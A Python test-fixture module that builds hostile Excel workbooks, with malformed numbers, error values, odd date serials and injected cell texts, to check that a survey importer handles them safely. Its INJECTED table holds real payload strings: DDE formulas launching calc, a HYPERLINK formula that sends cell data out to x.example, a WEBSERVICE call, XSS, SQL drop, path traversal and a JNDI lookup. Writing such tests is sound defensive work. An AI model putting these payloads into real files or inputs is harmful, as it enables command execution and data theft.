"""Hostile workbooks: numbers and texts no cell should hold, formulas where a text is wanted.

In: a sound survey. Out: Cases.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path

from hostile_case import (
    ABOUT,
    COMMENT,
    OWN,
    OWN_ROW,
    TABLE,
    Case,
    Make,
    adding,
    in_part,
    in_sheet,
    rejected,
    sound,
    survey,
)
from hostile_workbooks import BOOK, EMPTY, put
from returned_files import sent_file, sheet_part, unpacked


def cell_values() -> Iterator[Case]:
    """Every case of this kind."""
    yield from _numbers()
    yield from _texts()


# --- numbers and values -----------------------------------------------------------------------

ODD_NUMBERS = {
    "tall-nan.xlsx": ("<v>NaN</v>", "option-unknown"),
    "tall-inf.xlsx": ("<v>INF</v>", "option-unknown"),
    "tall-minus-inf.xlsx": ("<v>-INF</v>", "option-unknown"),
    "tall-1e400.xlsx": ("<v>1e400</v>", "option-unknown"),
    "tall-minus-1e400.xlsx": ("<v>-1e400</v>", "option-unknown"),
    "tall-tekst.xlsx": ("<v>fire</v>", "option-unknown"),
    "tall-komma.xlsx": ("<v>4,5</v>", "option-unknown"),
    "tall-to-verdier.xlsx": ("<v>4</v><v>2</v>", "cell-twice"),
}


def _numbers() -> Iterator[Case]:
    for name, (inner, code) in ODD_NUMBERS.items():
        yield sound(name, put(name, EMPTY, f'<c r="D5" s="30">{inner}</c>'), code)
    for name, inner in (
        ("tall-0.xlsx", "<v>0</v>"),
        ("tall-minus.xlsx", "<v>-3</v>"),
        ("tall-1e308.xlsx", "<v>1e308</v>"),
        ("tall-5e-324.xlsx", "<v>5e-324</v>"),
        ("tall-mange-siffer.xlsx", f"<v>{'9' * 300}</v>"),
    ):
        yield sound(name, put(name, EMPTY, f'<c r="D5" s="30">{inner}</c>'), "option-unknown")
    for kind, value in (("sann", "1"), ("usann", "0")):
        name = f"sannhet-{kind}.xlsx"
        yield sound(name, put(name, EMPTY, f'<c r="D5" s="30" t="b"><v>{value}</v></c>'))
    for error in ("#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!"):
        letters = "".join(letter for letter in error if letter.isalnum())
        name = f"feilverdi-{letters}.xlsx"
        xml = f'<c r="D5" s="30" t="e"><v>{error}</v></c>'
        yield sound(name, put(name, EMPTY, xml), "cell-error", D5=None)
    name = "feilverdi-ukjent.xlsx"
    xml = '<c r="D5" s="30" t="e"><v>#TULL!</v></c>'
    yield rejected(name, put(name, EMPTY, xml), "file-damaged")
    name = "formel-uten-verdi.xlsx"
    xml = '<c r="D5" s="30"><f>1+3</f></c>'
    yield sound(name, put(name, EMPTY, xml), "cell-uncomputed")
    name = "formel-med-verdi.xlsx"
    yield sound(name, put(name, EMPTY, '<c r="D5" s="30"><f>1+3</f><v>4</v></c>'), D5="4")
    name = "formel-lang.xlsx"
    xml = f'<c r="D5" s="30"><f>{"1+" * 4_000}1</f><v>4</v></c>'
    yield sound(name, put(name, EMPTY, xml), D5="4")
    for written in ("NaN", "INF", "1e400"):
        name = f"måling-{written}.xlsx"
        yield Case(name, _measured(written), told=frozenset({"number-unread"}), values={})
    for written in ("12", "12.5", "1e308"):
        name = f"måling-{written}.xlsx"
        spot = ("measurements", "b01-un01-00", "f.measured_value")
        yield Case(name, _measured(written), values={spot: float(written)})
    yield from _days()


def _measured(written: str) -> bytes:
    """The benefits workbook with a number measured."""
    data = sent_file("benefits", "xlsx")
    style = unpacked(data)[sheet_part(data, "Målinger")].decode().partition('<c r="F5" s="')[2]
    empty = f'<c r="F5" s="{style.partition(chr(34))[0]}"/>'
    return in_sheet(data, empty, empty.replace("/>", f"><v>{written}</v></c>"), "Målinger")


def _days() -> Iterator[Case]:
    """Days in the cell for the date: serial numbers no calendar has, and the later epoch."""
    for serial in ("-1", "0", "60", "2958466", "99999999", "1e20"):
        name = f"dato-{serial}.xlsx"
        yield sound(name, _dated(survey(name), serial))
    name = "dato-1904.xlsx"
    data = in_part(survey(name), BOOK, "<workbookPr/>", '<workbookPr date1904="1"/>')
    spot = ("info", "", "f.filled_date")
    case = sound(name, _dated(data, "44656"))
    yield Case(name, case.data, values={**case.values, spot: date(2026, 4, 6)})
    name = "dato-1900.xlsx"
    case = sound(name, _dated(survey(name), "46118"))
    yield Case(name, case.data, values={**case.values, spot: date(2026, 4, 6)})


def _dated(data: bytes, serial: str) -> bytes:
    part = sheet_part(data, ABOUT)
    text = unpacked(data)[part].decode()
    at = text.index('r="B14"')
    end = text.index("/>", at)
    return adding(data, {part: (text[:end] + f"><v>{serial}</v></c>" + text[end + 2 :]).encode()})


# --- texts ------------------------------------------------------------------------------------

INJECTED = {
    "likhetstegn": "=1+1",
    "kall": "=cmd|'/c calc'!A0",
    "lenke": '=HYPERLINK("http://x.example/?"&A1,"Klikk")',
    "pluss": "+47 12345678",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "krøllalfa": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tabulator": "\t=1+1",
    "vognretur": "&#13;=1+1",
    "linjeskift": "hei\n=1+1",
    "anførsel": '"=1+1"',
    "apostrof": "'=1+1",
    "webtjeneste": '=WEBSERVICE("http://127.0.0.1:9/x")',
    "skript": "<script>alert(1)</script>",
    "mal": "{{ 7*7 }}{% for x in y %}",
    "sql": "'); DROP TABLE cells;--",
    "sti": "../../etc/passwd",
    "format": "{0.__class__} %s %n ${jndi:ldap://127.0.0.1/x}",
}


def _texts() -> Iterator[Case]:
    for kind, text in INJECTED.items():
        name = f"innsprøyting-{kind}.xlsx"
        shown = text.replace("&#13;", "\r")
        yield sound(name, _said(name, text), **({} if kind in TRIMMED else {"E5": shown}))
    for kind, text, told in (
        ("escape", "_x001B_[2Jvekk", "text-cleaned"),
        ("bjelle", "_x0007_ring", "text-cleaned"),
    ):
        name = f"tekst-{kind}.xlsx"
        yield sound(name, _said(name, text), told)
    name = "tekst-retning.xlsx"
    yield sound(name, _said(name, "\u202etxet netdaV"), E5="\u202etxet netdaV")
    for size in (32_767, 32_768, 300_000):
        name = f"tekst-{size}.xlsx"
        text = "".join(f"{n:05x} " for n in range(size // 6 + 1))[: size - 1] + "x"
        yield sound(name, _said(name, text), E5=text)
    name = "tekst-ti-millioner.xlsx"
    made = made_later(lambda: _said("tekst-ti-millioner.xlsx", _ten_million()))
    yield Case(name, made, values={(TABLE, OWN_ROW, COMMENT): OWN + name}, heavy=True)
    name = "tekst-emoji.xlsx"
    yield sound(name, _said(name, "👩‍👩‍👧 bra 🎉"), E5="👩‍👩‍👧 bra 🎉")


TRIMMED = frozenset({"tabulator", "vognretur"})


def _ten_million() -> str:
    return "".join(f"{n * 7919 % 1_048_576:05x} " for n in range(10_000_000 // 6))


def made_later(made: Callable[[], bytes]) -> Make:
    """What takes long to make is made when it is written."""

    def make(path: Path) -> None:
        path.write_bytes(made())

    return make


def _said(name: str, text: str) -> bytes:
    escaped = text if "&#13;" in text else text.replace("&", "&amp;").replace("<", "&lt;")
    xml = f'<c r="E5" s="30" t="inlineStr"><is><t xml:space="preserve">{escaped}</t></is></c>'
    return put(name, '<c r="E5" s="30"/>', xml)
